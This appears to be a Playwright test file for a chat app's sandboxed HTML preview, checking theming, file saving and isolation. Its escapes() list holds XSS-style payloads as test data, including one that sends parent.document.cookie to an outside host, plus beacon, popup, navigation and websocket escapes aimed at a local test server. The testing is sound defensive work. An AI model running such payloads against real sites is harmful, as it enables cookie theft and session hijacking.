import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { expectNoAxeViolationsInBothThemes } from './support/accessibility.ts';
import { answers, expectAnswered, writeAnswer } from './support/chat.ts';
import { expect, test } from './support/test.ts';

/** How the browser says that a frame was kept from something. */
const refused = /Blocked|Refused|violates the following Content Security Policy|Unsafe attempt to/;

async function showAnswer(page: Page, text: string): Promise<void> {
  const chat = await writeAnswer(page.request, text);
  await page.goto(`/chat?c=${chat}`);
  await expectAnswered(page);
}

test('HTML is previewed and shown as code again, by keyboard, in both themes', async ({
  memberPage: page,
  consoleGuard,
}) => {
  consoleGuard.allow(refused);
  await showAnswer(
    page,
    '```html\n<style>h1 { color: rgb(1, 2, 3) }</style><h1>Kettle</h1><script>document.title = "ran"</script>\n```',
  );
  const listing = answers(page).getByRole('group', { name: 'Code in html' });
  await listing.getByRole('button', { name: 'Preview' }).press('Enter');
  await expect(listing.getByRole('button', { name: 'Show code' })).toBeFocused();
  const frame = listing.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', '');
  const heading = frame.contentFrame().getByRole('heading', { name: 'Kettle' });
  await expect(heading).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(listing).toContainText('Scripts don’t run in the preview.');
  await expectNoAxeViolationsInBothThemes(page);
  await page.keyboard.press('Enter');
  await expect(frame).toHaveCount(0);
  await expect(listing).toContainText('<h1>Kettle</h1>');
});

test('code is saved as a file with a name', async ({ memberPage: page }) => {
  await showAnswer(page, '```python\n# tea.py\nprint("чай")\n```');
  const saved = page.waitForEvent('download');
  await answers(page).getByRole('button', { name: 'Save as a file' }).click();
  expect((await saved).suggestedFilename()).toBe('tea.py');
});

/** Each tries to reach outside, and would leave a trace if it could. */
function escapes(outside: string): string[] {
  const script = (code: string): string => `<script>${code}</script>`;
  return [
    script(`fetch('${outside}/fetch')`),
    script(`new Image().src = '${outside}/image-of-script'`),
    script(`navigator.sendBeacon('${outside}/beacon')`),
    script(`fetch('${outside}/cookies?' + parent.document.cookie)`),
    script(`parent.document.body.dataset.reached = 'yes'; top.location = '${outside}/top'`),
    script(
      `open('${outside}/popup'); location = '${outside}/self'; new WebSocket('${outside.replace('http', 'ws')}')`,
    ),
    `<img src="${outside}/picture" onerror="parent.postMessage('ran', '*')">`,
    `<svg><image href="${outside}/svg-image"/><use href="${outside}/use#a"/></svg>`,
    `<link rel="stylesheet" href="${outside}/style"><link rel="prefetch" href="${outside}/prefetch">`,
    `<style>@import '${outside}/import'; body { background: url('${outside}/background') } @font-face { font-family: x; src: url('${outside}/font') } p { font-family: x }</style><p>x</p>`,
    `<iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed">`,
    `<video src="${outside}/video" autoplay></video><audio src="${outside}/audio" autoplay></audio>`,
    `<meta http-equiv="refresh" content="0; url=${outside}/refresh">`,
    `<base href="${outside}/"><img src="relative">`,
  ];
}

const clicked = {
  link: '<a href="OUT/link">Go</a>',
  'link to the whole page': '<a target="_top" href="OUT/top-link">Go</a>',
  'link to a new page': '<a target="_blank" href="OUT/new-link">Go</a>',
  form: '<form action="OUT/form"><button>Go</button></form>',
  'form for the whole page': '<form action="OUT/top-form" target="_top"><button>Go</button></form>',
};

test('a preview reaches nothing outside its frame', async ({ memberPage: page, consoleGuard }) => {
  consoleGuard.allow(refused);
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const outside = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
  try {
    const codes = [
      ...escapes(outside),
      ...Object.values(clicked).map((code) => code.replaceAll('OUT', outside)),
    ];
    const marked = codes.map((code, index) => `\`\`\`html\n${code}<i>seen ${index}</i>\n\`\`\``);
    await showAnswer(page, marked.join('\n\n'));
    const before = page.url();
    const popups: unknown[] = [];
    page.on('popup', (popup) => popups.push(popup));
    const toggles = answers(page).getByRole('button', { name: 'Preview' });
    await expect(toggles).toHaveCount(codes.length);
    for (const [index] of codes.entries()) {
      const listing = answers(page).getByRole('group', { name: 'Code in html' }).nth(index);
      await listing.getByRole('button', { name: 'Preview' }).click();
      const frame = listing.locator('iframe').contentFrame();
      // A frame that was led away shows an error, never the place it was led to.
      if (!codes[index]?.includes('refresh')) await expect(frame.getByText(`seen ${index}`)).toBeVisible();
      const control = frame.getByText('Go', { exact: true });
      if (codes[index]?.includes('Go')) await control.click();
    }
    // The page still answers, so whatever was begun before has been refused or sent.
    await expect(page.locator('body')).not.toHaveAttribute('data-reached', 'yes');
    await page.request.get(`${outside}/end`);
    expect(asked).toEqual(['/end']);
    expect(page.url()).toBe(before);
    expect(popups).toEqual([]);
  } finally {
    server.close();
  }
});
